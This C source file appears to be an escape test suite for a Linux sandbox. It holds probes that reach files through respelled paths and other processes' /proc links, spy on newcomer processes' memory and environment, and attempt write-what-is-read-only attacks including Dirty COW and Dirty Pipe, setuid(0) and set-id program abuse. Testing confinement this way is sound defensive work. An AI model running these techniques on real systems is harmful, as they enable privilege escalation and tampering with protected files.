/* Further ways to files: other spellings, kept descriptors, the page cache, set-id programs. */
#include "review/program/hostile.h"

#include <dirent.h>
#include <linux/fs.h>
#include <poll.h>
#include <sched.h>
#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <time.h>

/* wait FILE: until it is there */
static int attack_wait(int argc, char **argv)
{
	if (argc != 1)
		return 99;
	wait_for(argv[0]);
	return 0;
}

/* say WORD...: each was reached */
static int attack_say(int argc, char **argv)
{
	for (int i = 0; i < argc; i++)
		got(argv[i], 0);
	return 0;
}

/* linger WORD: stays long enough to be seen */
static int attack_linger(int argc, char **argv)
{
	poll(NULL, 0, 50);
	return attack_say(argc, argv);
}

/* ---- other spellings ---- */

static void respell(const char *path, const char *slash, char *ret, size_t size)
{
	size_t len = 0;

	for (; *path && len + 16 < size; path++) {
		const char letter[] = { *path, 0 };
		len += (size_t)snprintf(ret + len, size - len, "%s", *path == '/' ? slash : letter);
	}
}

static void read_all_spellings(const char *prefix, const char *path)
{
	static const char *const slashes[] = { "/", "//", "/./", "/../", "/.//./" };
	char full[8192];

	for (size_t i = 0; i < COUNT(slashes); i++) {
		char spelled[4096];

		respell(path, slashes[i], spelled, sizeof(spelled));
		snprintf(full, sizeof(full), "%s%s", prefix, spelled);
		read_path(full);
	}
}

/* spell PATH: the same path written differently, and from every process's root, folder and descriptors */
static int attack_spell(int argc, char **argv)
{
	static const char *const prefixes[] = { "", "/.", "/tmp/..", "/usr/share/../..", "/proc/thread-self/root",
		"/proc/self/task/1/root", "/proc/self/map_files/..", "/dev/fd/..", "/dev/shm/../.." };
	static const char *const links[] = { "root", "cwd/..", "cwd/../..", "cwd/../../..", "fd/0", "fd/3", "fd/4", "fd/137",
		"fd/138", "fd/138/.", "exe/../..", "fdinfo/.." };
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char prefix[512];
	int seen = 0;

	if (argc != 1)
		return 99;
	for (size_t i = 0; i < COUNT(prefixes); i++)
		read_all_spellings(prefixes[i], argv[0]);
	while (proc && seen < 64 && (entry = readdir(proc))) {
		if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
			continue;
		seen++;
		for (size_t i = 0; i < COUNT(links); i++) {
			snprintf(prefix, sizeof(prefix), "/proc/%s/%s%s", entry->d_name, links[i], argv[0]);
			read_path(prefix);
		}
	}
	return 0;
}

static void from_descriptor(int fd, const char *path)
{
	char what[64], link[64];
	const struct {
		const char *how;
		int opened;
	} ways[] = {
		{ "openat", openat(fd, path, O_RDONLY | O_NONBLOCK) },
		{ "fchdir", fchdir(fd) < 0 ? -1 : open(path, O_RDONLY | O_NONBLOCK) },
		{ "reopen", snprintf(link, sizeof(link), "/proc/self/fd/%d", fd) < 0 || fd < 3 ? -1 : open(link, O_RDONLY | O_NONBLOCK) },
	};

	for (size_t i = 0; i < COUNT(ways); i++) {
		snprintf(what, sizeof(what), "%s-%d", ways[i].how, fd);
		read_fd(what, ways[i].opened);
		if (ways[i].opened >= 0)
			close(ways[i].opened);
	}
}

/* descriptors PATH: from every descriptor that is open, and from those of our own folders once we are elsewhere */
static int attack_descriptors(int argc, char **argv)
{
	int fds[64], count = 0;
	char path[4096];

	if (argc != 1)
		return 99;
	for (int fd = 0; fd < 65536 && count < 60; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			fds[count++] = fd;
	fds[count++] = open("/", O_RDONLY | O_DIRECTORY);
	fds[count++] = open("/", O_PATH);
	fds[count++] = open(".", O_RDONLY | O_DIRECTORY);
	fds[count++] = open("/proc/self", O_PATH);
	snprintf(path, sizeof(path), ".%s", argv[0]);
	for (int i = 0; i < count; i++) {
		(void)!chdir("/usr");
		from_descriptor(fds[i], path);
	}
	return 0;
}

/* Whether it is a program that the cell has. */
static bool is_shown(int fd)
{
	static const char *const programs[] = { "/proc/self/exe", "/bin/true" };
	struct stat is, st;

	if (fstat(fd, &is) < 0)
		return true;
	for (size_t i = 0; i < COUNT(programs); i++)
		if (stat(programs[i], &st) == 0 && st.st_ino == is.st_ino && st.st_dev == is.st_dev)
			return true;
	return false;
}

static unsigned ambush_one(const char *pid, const char *canary)
{
	static const char *const ways[] = { "exe", "root%s", "cwd%s", "fd/3", "fd/4", "fd/5", "fd/6%s", "mem", "environ" };
	char what[64], path[4096], name[64];
	unsigned reached = 0;

	for (size_t i = 0; i < COUNT(ways); i++) {
		snprintf(name, sizeof(name), "%s", ways[i]);
		if (strstr(name, "%s"))
			*strstr(name, "%s") = 0;
		snprintf(path, sizeof(path), "/proc/%s/%s%s", pid, name, strstr(ways[i], "%s") ? canary : "");
		int fd = open(path, strcmp(name, "mem") ? O_RDONLY | O_NONBLOCK : O_RDWR);
		if (fd < 0)
			continue;
		snprintf(what, sizeof(what), "%s-of-the-newcomer", name);
		if (strcmp(name, "exe") == 0 && !is_shown(fd))
			got(what, 0);
		else if (strcmp(name, "exe") != 0 && strcmp(name, "mem") != 0)
			read_fd(what, fd);
		reached++;
		close(fd);
	}
	return reached;
}

/* ambush CANARY FILE: lies in wait for processes that enter the cell, for what they have from outside, until FILE is there */
static int attack_ambush(int argc, char **argv)
{
	unsigned seen = 0, reached = 0;
	char self[16];

	if (argc != 2)
		return 99;
	snprintf(self, sizeof(self), "%d", getpid());
	ready();
	for (time_t until = time(NULL) + 8; time(NULL) < until && access(argv[1], F_OK) < 0;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc))) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || !strcmp(entry->d_name, "1") || !strcmp(entry->d_name, self))
				continue;
			seen++;
			reached += ambush_one(entry->d_name, argv[0]);
		}
		if (proc)
			closedir(proc);
	}
	got_number("newcomers-seen", seen);
	got_number("reached", reached);
	return 0;
}

/* ---- a file that may be read and not written ---- */

static char page[4096];

static bool is_changed(const char *path)
{
	char now[sizeof(page)] = "";
	int fd = open(path, O_RDONLY);
	ssize_t len = read(fd, now, sizeof(now));

	close(fd);
	return len > 0 && memcmp(now, page, (size_t)len) != 0;
}

static void got_changed(const char *what, const char *path)
{
	if (is_changed(path))
		got(what, 0);
	else
		got_text(what, "unchanged");
}

/* CVE-2016-5195: writing through /proc/self/mem to pages that are being thrown away. */
static void dirty_cow(const char *path, int fd)
{
	char *map = mmap(NULL, sizeof(page), PROT_READ, MAP_PRIVATE, fd, 0);
	int mem = open("/proc/self/mem", O_RDWR);
	pid_t child = fork();

	if (child == 0) {
		for (int i = 0; i < 2000; i++)
			madvise(map, sizeof(page), MADV_DONTNEED);
		_exit(0);
	}
	for (int i = 0; i < 2000 && mem >= 0; i++)
		(void)!pwrite(mem, "COW", 3, (off_t)(uintptr_t)map);
	waitpid(child, NULL, 0);
	got_changed("dirty-cow", path);
}

/* CVE-2022-0847: a page of the file in a pipe, appended to. */
static void dirty_pipe(const char *path, int fd)
{
	int pipes[2];
	loff_t at = 0;

	if (pipe(pipes) < 0)
		return;
	int size = fcntl(pipes[1], F_GETPIPE_SZ);
	for (int left = size; left > 0; left -= (int)sizeof(page))
		(void)!write(pipes[1], page, sizeof(page));
	for (int left = size; left > 0; left -= (int)sizeof(page)) {
		char drained[sizeof(page)];
		(void)!read(pipes[0], drained, sizeof(drained));
	}
	got_text("splice", splice(fd, &at, pipes[1], NULL, 1, 0) == 1 ? "done" : strerrorname_np(errno));
	(void)!write(pipes[1], "PIPE", 4);
	got_changed("dirty-pipe", path);
}

static void by_maps(const char *path, int fd)
{
	char *map = mmap(NULL, sizeof(page), PROT_READ, MAP_SHARED, fd, 0);
	char name[128];

	got("map-shared", mmap(NULL, sizeof(page), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
	got("mprotect", mprotect(map, sizeof(page), PROT_READ | PROT_WRITE));
	snprintf(name, sizeof(name), "/proc/self/map_files/%lx-%lx", (unsigned long)map, (unsigned long)map + sizeof(page));
	got("map-files", open(name, O_RDWR));
	int mem = open("/proc/self/mem", O_RDWR);
	(void)!pwrite(mem, "MEM", 3, (off_t)(uintptr_t)map);
	got_changed("mem", path);
	char *own = mmap(NULL, sizeof(page), PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	if (own != MAP_FAILED)
		memcpy(own, "OWN", 3), msync(own, sizeof(page), MS_SYNC);
	got_changed("private-map", path);
}

/* page-cache FILE: to write to what is only shown, past its mount: by descriptors, maps and pipes */
static int attack_page_cache(int argc, char **argv)
{
	char link[64];
	int fd = argc == 1 ? open(argv[0], O_RDONLY) : -1;

	if (fd < 0 || read(fd, page, sizeof(page)) < 0)
		return 99;
	got("open", open(argv[0], O_RDWR));
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	got("reopen", open(link, O_RDWR));
	snprintf(link, sizeof(link), "/dev/fd/%d", fd);
	got("reopen-append", open(link, O_WRONLY | O_APPEND));
	got("write", write(fd, "X", 1));
	got("ftruncate", ftruncate(fd, 0));
	got("fallocate", fallocate(fd, 0, 0, 8192));
	got("punch", fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096));
	got("copy-range", copy_file_range(open("/proc/self/exe", O_RDONLY), NULL, fd, NULL, 16, 0));
	got("clone-range", ioctl(fd, FICLONE, open("/proc/self/exe", O_RDONLY)));
	by_maps(argv[0], fd);
	dirty_pipe(argv[0], fd);
	dirty_cow(argv[0], fd);
	return 0;
}

/* stdin: what stands behind our standard descriptors, opened anew for writing */
static int attack_stdin(int argc, char **argv)
{
	char path[64], what[64];

	(void)argc, (void)argv;
	for (int fd = 0; fd < 3; fd++) {
		struct stat st;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		snprintf(what, sizeof(what), "reopen-%d", fd);
		if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode)) {
			int again = open(path, O_RDWR);
			got(what, again);
			(void)!pwrite(again, "overwritten", 11, 0);
		} else {
			got_text(what, "no-file");
		}
	}
	return 0;
}

/* watch: to be told of what others do to files */
static int attack_watch(int argc, char **argv)
{
	static const struct {
		const char *what;
		unsigned flags;
	} kinds[] = { { "fanotify", FAN_CLASS_NOTIF }, { "fanotify-content", FAN_CLASS_CONTENT },
		{ "fanotify-pre", FAN_CLASS_PRE_CONTENT }, { "fanotify-fid", FAN_CLASS_NOTIF | 0x200 /* REPORT_FID */ },
		{ "fanotify-names", FAN_CLASS_NOTIF | 0xc00 /* DIR_FID, NAME */ } };
	const unsigned long upper = 1UL << 32;
	char what[64];

	(void)argc, (void)argv;
	for (size_t i = 0; i < COUNT(kinds); i++) {
		got(kinds[i].what, syscall(SYS_fanotify_init, kinds[i].flags, O_RDONLY));
		snprintf(what, sizeof(what), "%s-upper", kinds[i].what);
		got(what, syscall(SYS_fanotify_init, kinds[i].flags | upper, O_RDONLY));
	}
	return 0;
}

/* ---- programs with more rights than we have ---- */

static int effective_uid(pid_t pid)
{
	char path[64], line[256];
	int uid = -1;

	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	FILE *status = fopen(path, "r");
	while (status && fgets(line, sizeof(line), status))
		sscanf(line, "Uid: %*d %d", &uid);
	if (status)
		fclose(status);
	return uid;
}

/* Runs it with nobody reading what it prints, so that it stays for a look. */
static void try_set_id(const char *program)
{
	char what[4200], path[64], exe[4096];
	int full[2], uid = getuid() ? (int)getuid() : 65534, is = -1;

	if (pipe2(full, O_NONBLOCK) < 0)
		return;
	while (write(full[1], page, sizeof(page)) > 0 || write(full[1], "x", 1) > 0)
		;
	fcntl(full[1], F_SETFL, 0);
	pid_t pid = fork();
	if (pid == 0) {
		(void)!setresgid((gid_t)uid, (gid_t)uid, (gid_t)uid);
		(void)!setresuid((uid_t)uid, (uid_t)uid, (uid_t)uid);
		dup2(full[1], 1), dup2(full[1], 2);
		execl(program, program, "--help", (char *)NULL);
		_exit(9);
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	for (int i = 0; i < 20; i++) {
		ssize_t len = readlink(path, exe, sizeof(exe) - 1);
		exe[len < 0 ? 0 : len] = 0;
		is = effective_uid(pid); /* whose link cannot be read has become another */
		if (len < 0 || strstr(exe, strrchr(program, '/')))
			break;
		poll(NULL, 0, 2);
	}
	snprintf(what, sizeof(what), "set-id:%s", program);
	got_text(what, is >= 0 && is != uid ? "ok" : "EPERM");
	kill(pid, SIGKILL);
	close(full[0]), close(full[1]);
	waitpid(pid, NULL, 0);
}

static void try_set_ids_of(const char *folder)
{
	DIR *dir = opendir(folder);
	struct dirent *entry;
	char path[4096];
	struct stat st;
	int seen = 0;

	while (dir && seen < 6 && (entry = readdir(dir))) {
		snprintf(path, sizeof(path), "%s/%s", folder, entry->d_name);
		if (lstat(path, &st) < 0 || !S_ISREG(st.st_mode) || !(st.st_mode & S_ISUID))
			continue;
		seen++;
		try_set_id(path);
	}
	if (dir)
		closedir(dir);
}

static void copy_self(const char *path, mode_t mode)
{
	int from = open("/proc/self/exe", O_RDONLY), to = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);

	while (sendfile(to, from, NULL, 1 << 20) > 0)
		;
	fchmod(to, mode);
	close(from), close(to);
}

/* late FILE FIFO: waits for the first, then writes to the other in every way it can be opened */
static int attack_late(int argc, char **argv)
{
	static const struct {
		const char *name;
		int flags;
	} ways[] = { { "write", O_WRONLY | O_NONBLOCK }, { "both", O_RDWR | O_NONBLOCK }, { "append", O_WRONLY | O_APPEND | O_NONBLOCK } };

	if (argc < 2)
		return 99;
	wait_for(argv[0]);
	for (size_t i = 0; i < COUNT(ways); i++) {
		int fifo = open(argv[1], ways[i].flags);
		got(ways[i].name, fifo < 0 ? fifo : write(fifo, "out", 3));
		close(fifo);
	}
	return 0;
}

/* set-id FILE FOLDER...: programs with set-id bits there, in the usual places, and of our own making; and to be root
 * without; then waits for FILE */
static int attack_set_id(int argc, char **argv)
{
	if (argc < 1)
		return 99;
	if (!gentle())
		got("setuid", setuid(0)), got("setgid", setgid(0)), got("setgroups", syscall(SYS_setgroups, 1, (gid_t[]){ 0 }));
	copy_self("own", 04755);
	try_set_id("./own");
	for (int i = 1; i < argc; i++)
		try_set_ids_of(argv[i]);
	try_set_ids_of("/usr/bin");
	try_set_ids_of("/usr/sbin");
	wait_for(argv[0]);
	return 0;
}

/* run-from FOLDER: a program written there, run in every way there is */
static int attack_run_from(int argc, char **argv)
{
	static const char *const ways[] = { "exec", "by-descriptor", "by-proc", "by-loader", "mapped" };
	char path[4096], what[64], held[64];

	if (argc != 1)
		return 99;
	snprintf(path, sizeof(path), "%s/copy", argv[0]);
	copy_self(path, 0755);
	for (size_t i = 0; i < COUNT(ways); i++) {
		snprintf(what, sizeof(what), "%s:%.32s", ways[i], argv[0]);
		pid_t pid = fork();
		if (pid == 0) {
			char *words[] = { path, "reach", "say", what, NULL }, *loaded[] = { "ld.so", path, "reach", "say", what, NULL };
			int fd = open(path, O_RDONLY);
			snprintf(held, sizeof(held), "/proc/self/fd/%d", fd);
			switch (i) {
			case 0: execv(path, words); break;
			case 1: syscall(SYS_execveat, fd, "", words, environ, AT_EMPTY_PATH); break;
			case 2: execv(held, words); break;
			case 3: execv("/lib64/ld-linux-x86-64.so.2", loaded); break;
			default: got(what, mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED ? -1 : 0); _exit(0);
			}
			got(what, -1);
			_exit(0);
		}
		int status = 0;
		waitpid(pid, &status, 0);
		if (status != 0) /* the loader says so by its exit code */
			got_text(what, "failed");
	}
	unlink(path);
	return 0;
}

const struct attack reach_attacks[] = {
	{ "wait", attack_wait },	     { "say", attack_say },	    { "spell", attack_spell },
	{ "descriptors", attack_descriptors }, { "page-cache", attack_page_cache }, { "stdin", attack_stdin },
	{ "watch", attack_watch },	    { "set-id", attack_set_id },	    { "late", attack_late },
	{ "run-from", attack_run_from },     { "ambush", attack_ambush },	    { "linger", attack_linger },
	{ 0 },
};
